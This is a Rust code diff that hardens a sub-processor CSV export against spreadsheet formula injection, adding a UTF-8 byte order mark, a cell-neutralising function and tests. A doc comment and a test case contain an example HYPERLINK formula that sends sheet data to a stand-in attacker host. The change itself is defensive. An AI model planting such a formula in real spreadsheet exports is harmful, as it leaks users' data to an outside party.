@@ -50,8 +50,12 @@ pub fn data_json(model: &Model, date: jiff::civil::Date, languages: &[String]) -
 }
 
 /// `subprocessors.csv`: one row per sub-processor, in page order.
+///
+/// Customers open this list in a spreadsheet, so it is written for one: it starts with a UTF-8
+/// byte order mark (without it Excel reads the file in the legacy code page and garbles `ü`),
+/// and no cell can run as a formula (see [`spreadsheet_text`]).
 pub fn subprocessors_csv(model: &Model) -> Vec<u8> {
-    let mut w = csv::Writer::from_writer(Vec::new());
+    let mut w = csv::Writer::from_writer(UTF8_BOM.as_bytes().to_vec());
     let header = [
         "name",
         "personal_data",
@@ -69,17 +73,38 @@ pub fn subprocessors_csv(model: &Model) -> Vec<u8> {
         let yes_no = if s.personal_data { "yes" } else { "no" };
         let security = s.security.as_ref().map_or("", |l| l.as_str());
         let effective = s.effective.map(|d| d.to_string()).unwrap_or_default();
-        w.write_record([
+        let row = [
             s.name.as_str(),
             yes_no,
             outside,
             mechanism,
             security,
             &effective,
-        ])
-        .expect("writing to memory");
+        ];
+        for cell in row {
+            w.write_field(spreadsheet_text(cell).as_bytes())
+                .expect("writing to memory");
+        }
+        w.write_record(None::<&[u8]>).expect("writing to memory");
     }
     w.into_inner().expect("writing to memory")
+}
+
+/// The byte order mark that tells a spreadsheet the file is UTF-8.
+const UTF8_BOM: &str = "\u{feff}";
+
+/// A cell as a spreadsheet will show it, never run it (OWASP, "CSV Injection"): a cell that
+/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
+/// and Google Sheets (`=HYPERLINK("https://evil.example/?"&A1,"x")` sends the sheet's data away
+/// when clicked), so such a cell gets a leading `'`, which makes it text. The csv writer then
+/// quotes the cell if it holds a quote, a comma or a line break. Only the name can start like
+/// that today; every cell goes through here so that no new column can forget it.
+fn spreadsheet_text(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
 }
 
 /// The GDPR article DPV's `eu-gdpr` extension names for a transfer mechanism.
@@ -161,4 +186,36 @@ pub fn dpv_jsonld(model: &Model, date: jiff::civil::Date, base: &str) -> Vec<u8>
     let mut out = serde_json::to_vec_pretty(&doc).expect("JSON-LD serializes");
     out.push(b'\n');
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_evaluate_becomes_text() {
+        for cell in [
+            "=1+1",
+            "+1",
+            "-1",
+            "@SUM(A1)",
+            "\t=1+1",
+            "\r=1+1",
+            r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#,
+        ] {
+            assert_eq!(spreadsheet_text(cell), format!("'{cell}"));
+        }
+        for cell in ["Müller GmbH", "a=b", "", "'quoted", "2025-10-30", " =1"] {
+            assert_eq!(spreadsheet_text(cell), cell);
+        }
+    }
+
+    #[test]
+    fn the_csv_quotes_a_neutralized_formula_and_reads_back_as_written() {
+        let mut w = csv::Writer::from_writer(Vec::new());
+        w.write_record([spreadsheet_text(r#"=HYPERLINK("x","y")"#).as_bytes()])
+            .unwrap();
+        let bytes = w.into_inner().unwrap();
+        assert_eq!(bytes, b"\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"\n");
+    }
 }
